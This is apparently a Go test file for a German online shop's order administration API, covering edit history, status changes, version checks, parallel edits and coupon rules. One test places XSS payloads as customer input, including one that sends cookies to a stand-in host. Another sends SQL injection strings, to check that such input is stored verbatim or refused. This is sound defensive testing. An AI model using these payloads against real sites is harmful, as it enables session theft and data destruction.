package web_test

import (
	"fmt"
	"maps"
	"strings"
	"testing"
	"time"

	"kontor/internal/shop/coupon"
)

// TestOrderOnTheWire: the specification's names and types, and no list is null.
func TestOrderOnTheWire(t *testing.T) {
	t.Parallel()
	s := startShop(t)
	admin := s.operator()
	s.place("kunde.strasse", `"Gasse 1"`, "artikel.kategorie", `"garn"`, "treuebonusVerwendet", "true",
		"versandkosten", "4.9", "summe", "11.9", "zwischensumme", "7")

	const order = `{"id":1,"bestellnummer":"BK-2026-0001",
		"created_at":"2026-11-21T09:15:00.000Z","updated_at":"2026-11-21T09:15:00.000Z","status":"zahlungOffen",
		"kunde_name":"Max Muster","kunde_email":"max@example.de","land":"de","strasse":"Gasse 1","plz":"","ort":"",
		"zahlungsart":"ueberweisung","zwischensumme":7,"versandkosten":4.9,"rabatt_gesamt":0,"summe":11.9,
		"treuebonus_verwendet":1,"abo_rabatt_verwendet":0,"gutschein_code":null,"paypal_order_id":null,"kunde_id":null,
		"sprache":"de","notiz":"","version":1,
		"artikel":[{"produkt_slug":"garn-rot","name":"Garn rot","kategorie_slug":"garn","menge":2,"preis":3.5,"gratis":0,"name_de":"Garn rot"}],
		"hinweise":[{"art":"artikel","text":"Artikel nicht im Sortiment: garn-rot"},
		{"art":"versand","text":"Versandkosten weichen ab (erwartet 0,00)"},
		{"art":"rabatt","text":"Treuebonus ohne bezahlte frühere Bestellung"}]`
	admin.get(ordersPath).wantJSON(t, `{"ok":true,"orders":[`+order+`}],"weiter":null,
		"anzahl":{"alle":1,"bezahlt":0,"zahlungOffen":1,"storniert":0}}`)
	one := admin.get(ordersPath + "/1")
	one.wantJSON(t, `{"ok":true,"order":`+order+`,"ereignisse":[{"zeit":"2026-11-21T09:15:00.000Z","wer":"Shop",
		"art":"erstellt","von":null,"nach":null,"text":""}],"mails":[
		{"id":1,"art":"betreiber_bestellung","bezeichnung":"Bestellbenachrichtigung","order_id":1,"bestellnummer":"BK-2026-0001",
		"sprache":"de","an":null,"zustand":"nicht eingerichtet","versuche":0,"grund":null,
		"created_at":"2026-11-21T09:15:00.000Z","updated_at":"2026-11-21T09:15:00.000Z","naechster_versuch":null,"gesendet_at":null},
		{"id":2,"art":"kunde_eingang","bezeichnung":"Eingangsbestätigung","order_id":1,"bestellnummer":"BK-2026-0001",
		"sprache":"de","an":"max@example.de","zustand":"nicht eingerichtet","versuche":0,"grund":null,
		"created_at":"2026-11-21T09:15:00.000Z","updated_at":"2026-11-21T09:15:00.000Z","naechster_versuch":null,"gesendet_at":null}],
		"rechnungen":[{"nummer":"BK-2026-0001","art":"rechnung","betrag":11.9,"wer":"Shop","created_at":"2026-11-21T09:15:00.000Z"}],
		"berechnet":11.9,"zahlung":null}}`)
	if tag := one.header.Get("ETag"); tag != `"1"` {
		t.Errorf("ETag %s", tag)
	}
	admin.get(ordersPath+"?status=storniert").wantJSON(t, `{"ok":true,"orders":[],"weiter":null,
		"anzahl":{"alle":1,"bezahlt":0,"zahlungOffen":1,"storniert":0}}`)
}

// TestS1_S50_TextsVerbatim: what customers write is data, in JSON as it was sent.
func TestS1_S50_TextsVerbatim(t *testing.T) {
	t.Parallel()
	s := startShop(t)
	admin := s.operator()
	for i, text := range []string{
		`<img src=x onerror=fetch('//127.0.0.1:9/'+document.cookie)>`,
		`"><svg onload=alert(1)>`,
		`</script><script>alert(1)</script>`,
		`javascript:alert(1)`,
		"\u202etxt.exe\u200b", "a\u2028\u2029b", "e" + strings.Repeat("\u0301", 400), "Ме\u0441ser 🧶",
	} {
		q := quoted(text)
		s.place("kunde.name", q, "kunde.email", quoted(text+"@b"), "kunde.strasse", q, "kunde.plz", q, "kunde.ort", q,
			"artikel.slug", q, "artikel.name", q, "artikel.kategorie", q, "zahlungsart", q)
		a := admin.get(fmt.Sprintf("%s/%d", ordersPath, i+1))
		order := decoded[struct{ Order map[string]any }](t, a).Order
		item := order["artikel"].([]any)[0].(map[string]any)
		for _, got := range []any{order["kunde_name"], order["strasse"], order["plz"], order["ort"], order["zahlungsart"],
			item["produkt_slug"], item["name"], item["kategorie_slug"]} {
			if got != text {
				t.Errorf("%q came back as %q", text, got)
			}
		}
		if order["kunde_email"] != text+"@b" {
			t.Errorf("%q came back as %q", text+"@b", order["kunde_email"])
		}
		if kind := a.header.Get("Content-Type"); kind != "application/json; charset=utf-8" || a.header.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("type %q may be sniffed", kind)
		}
	}
}

func TestH44_ChangeIsSavedWithItsHistory(t *testing.T) {
	t.Parallel()
	s := startShop(t)
	admin := s.operator()
	s.place()
	s.clock.advance(time.Hour)

	changed := admin.patch(ordersPath+"/1", `{"status":"bezahlt","notiz":"Geld da","summe":0,"id":9}`)
	changed.want(t, 200, "")
	if tag := changed.header.Get("ETag"); tag != `"2"` {
		t.Errorf("ETag %s", tag)
	}
	order := admin.order(1)
	if order.Status != "bezahlt" || order.Notiz != "Geld da" || order.Version != 2 || len(order.Ereignisse) != 3 {
		t.Fatalf("%+v", order)
	}
	for _, e := range order.Ereignisse[1:] {
		mark, ok := strings.CutPrefix(e.Wer, "Verwaltung ")
		if !ok || len(mark) != 8 || e.Zeit != "2026-11-21T10:15:00.000Z" {
			t.Errorf("who and when: %+v", e)
		}
		switch {
		case e.Art == "status" && e.Von != nil && *e.Von == "zahlungOffen" && e.Nach != nil && *e.Nach == "bezahlt":
		case e.Art == "notiz" && e.Text == "Geld da" && e.Von == nil && e.Nach == nil:
		default:
			t.Errorf("what: %+v", e)
		}
	}
	counts := admin.list("").Anzahl
	if counts["bezahlt"] != 1 || counts["zahlungOffen"] != 0 || counts["alle"] != 1 {
		t.Errorf("counts %v", counts)
	}
	if stored := s.stored()[0]; stored.Total != 7 || stored.ID != 1 {
		t.Errorf("more than status and note changed: %+v", stored)
	}
}

// Setting the current state again succeeds without any other effect: no counter moves,
// and nobody gets a message.
func TestH44_SameStatusIsTold(t *testing.T) {
	t.Parallel()
	s := startShop(t)
	admin := s.operator()
	s.place()
	admin.patch(ordersPath+"/1", `{"status":"bezahlt"}`).want(t, 200, "")
	paid, counts, bestsellers, mails := admin.order(1), admin.list("").Anzahl, s.insider().get("/api/bestseller").body, admin.get("/api/verwaltung/mails").body
	for i, body := range []string{`{"status":"bezahlt"}`, `{"status":"bezahlt","notiz":"angerufen"}`, `{"status":"bezahlt","notiz":"angerufen"}`} {
		s.clock.advance(time.Minute)
		admin.patch(ordersPath+"/1", body).want(t, 200, "")
		order := admin.order(1)
		told := 0
		for _, e := range order.Ereignisse {
			if e.Art == "status" && e.Von != nil && *e.Von == "bezahlt" && *e.Nach == "bezahlt" && strings.HasPrefix(e.Wer, "Verwaltung ") {
				told++
			}
		}
		if told != i+1 || order.UpdatedAt <= paid.UpdatedAt || order.Status != "bezahlt" {
			t.Errorf("%s: told %d times, %+v", body, told, order)
		}
	}
	if after := admin.list("").Anzahl; !maps.Equal(after, counts) {
		t.Errorf("counts %v, before %v", after, counts)
	}
	if s.insider().get("/api/bestseller").body != bestsellers || admin.get("/api/verwaltung/mails").body != mails {
		t.Error("best sellers or messages changed")
	}
}

func TestH44_RefusedChangesChangeNothing(t *testing.T) {
	t.Parallel()
	s := startShop(t)
	admin := s.operator()
	s.place()
	const status, note, nothing = "Ungültiger Status.", "Ungültige Notiz.", "Die Anfrage enthält keine Änderung."
	for body, text := range map[string]string{
		`{"status":"versendet"}`: status, `{"status":"BEZAHLT"}`: status, `{"status":""}`: status,
		`{"status":null}`: status, `{"status":1}`: status, `{"status":true}`: status, `{"status":["bezahlt"]}`: status,
		`{"status":{}}`: status, `{"status":"'); DROP TABLE orders;--"}`: status,
		`{"notiz":null}`: note, `{"notiz":5}`: note, `{"notiz":"` + strings.Repeat("x", 4001) + `"}`: note,
		`{"status":"bezahlt","notiz":[]}`: note,
		`{}`:                              nothing, `{"Status":"bezahlt"}`: "Unbekanntes Feld „Status“.", `{"version":3}`: nothing,
		``: badRequest, `[]`: badRequest, `"bezahlt"`: badRequest, `{"status":"bezahlt"`: badRequest,
	} {
		admin.patch(ordersPath+"/1", body).want(t, 400, text)
	}
	for _, id := range []string{"0", "-1", "abc", "999999", "1.0", "+1", "1e0", "1%20OR%201=1", "9223372036854775808", "18446744073709551617"} {
		admin.patch(ordersPath+"/"+id, `{"status":"bezahlt"}`).want(t, 404, "Bestellung nicht gefunden.")
		admin.get(ordersPath+"/"+id).want(t, 404, "Bestellung nicht gefunden.")
	}
	const stale = "Der Eintrag wurde inzwischen geändert. Bitte neu laden."
	for _, tag := range []string{`"2"`, `W/"1"`, `1`, `"x", "0"`} {
		admin.patch(ordersPath+"/1", `{"status":"bezahlt"}`, "If-Match: "+tag).want(t, 412, stale)
	}
	admin.patch(ordersPath+"/2", `{"status":"bezahlt"}`, `If-Match: "1"`).want(t, 404, "Bestellung nicht gefunden.")
	admin.do("PATCH", ordersPath+"/1", `{"status":"bezahlt"}`, "Content-Type: text/plain").want(t, 415, "Die Anfrage muss den Content-Type application/json haben.")
	admin.patch(ordersPath+"/1", `{"status":"bezahlt","x":"`+strings.Repeat("x", 256<<10)+`"}`).want(t, 413, "Die Anfrage ist zu groß.")

	order := admin.order(1)
	if order.Status != "zahlungOffen" || order.Version != 1 || len(order.Ereignisse) != 1 {
		t.Errorf("a refused change left traces: %+v", order)
	}
}

func TestH44_IfMatchThatFits(t *testing.T) {
	t.Parallel()
	s := startShop(t)
	admin := s.operator()
	s.place()
	for i, tag := range []string{`"1"`, `"7", "2"`, `*`} {
		got := admin.patch(ordersPath+"/1", `{"status":"bezahlt"}`, "If-Match: "+tag)
		got.want(t, 200, "")
		if want := fmt.Sprintf(`"%d"`, i+2); got.header.Get("ETag") != want {
			t.Errorf("%s: ETag %s, want %s", tag, got.header.Get("ETag"), want)
		}
	}
}

// TestH44_ParallelChanges: of several changes that demand the same version exactly one
// is carried out.
func TestH44_ParallelChanges(t *testing.T) {
	t.Parallel()
	s := startShop(t)
	admin := s.operator()
	s.place()
	carried := 0
	for _, a := range s.together(20, func(int) answer {
		return admin.patch(ordersPath+"/1", `{"status":"bezahlt"}`, `If-Match: "1"`)
	}) {
		switch a.status {
		case 200:
			carried++
		default:
			a.want(t, 412, "Der Eintrag wurde inzwischen geändert. Bitte neu laden.")
		}
	}
	if order := admin.order(1); carried != 1 || order.Version != 2 || len(order.Ereignisse) != 2 {
		t.Errorf("%d carried out, order %+v", carried, order)
	}
}

// TestContract_CouponOfACancelledOrder: an order whose coupon somebody has used since
// cannot be reinstated, and the answer names the other order.
func TestContract_CouponOfACancelledOrder(t *testing.T) {
	t.Parallel()
	s := startShop(t)
	admin := s.operator()
	admin.post(couponsPath, `{"code":"einmal","art":"betrag","wert":1,"einmalig_pro_person":true}`).want(t, 201, "")
	s.place("gutscheinCode", `"EINMAL"`)
	admin.patch(ordersPath+"/1", `{"status":"storniert"}`).want(t, 200, "")
	s.place("gutscheinCode", `"EINMAL"`)

	back := admin.patch(ordersPath+"/1", `{"status":"bezahlt"}`)
	back.want(t, 409, "")
	if !strings.Contains(back.body, "BK-2026-0002") || back.header.Get("X-Fehlercode") != coupon.ErrTaken.Code {
		t.Errorf("answer %s", back.body)
	}
	if order := admin.order(1); order.Status != "storniert" || len(order.Ereignisse) != 2 {
		t.Errorf("%+v", order)
	}
}

// TestContract_CouponUsedUpMeanwhile: nor can one whose coupon has reached its limit.
func TestContract_CouponUsedUpMeanwhile(t *testing.T) {
	t.Parallel()
	s := startShop(t)
	admin := s.operator()
	admin.post(couponsPath, `{"code":"zwei","art":"betrag","wert":1,"max_einloesungen":2}`).want(t, 201, "")
	s.place("gutscheinCode", `"ZWEI"`)
	s.place("gutscheinCode", `"ZWEI"`)
	admin.patch(ordersPath+"/1", `{"status":"storniert"}`).want(t, 200, "")
	s.place("gutscheinCode", `"ZWEI"`)

	back := admin.patch(ordersPath+"/1", `{"status":"zahlungOffen"}`)
	back.want(t, 409, "Der Gutschein ist aufgebraucht, zuletzt mit Bestellung BK-2026-0003.")
	if code := back.header.Get("X-Fehlercode"); code != coupon.ErrTaken.Code {
		t.Errorf("code %s", code)
	}
	if order := admin.order(1); order.Status != "storniert" || len(order.Ereignisse) != 2 {
		t.Errorf("%+v", order)
	}
	admin.patch(ordersPath+"/3", `{"status":"storniert"}`).want(t, 200, "")
	admin.patch(ordersPath+"/1", `{"status":"zahlungOffen"}`).want(t, 200, "")
}
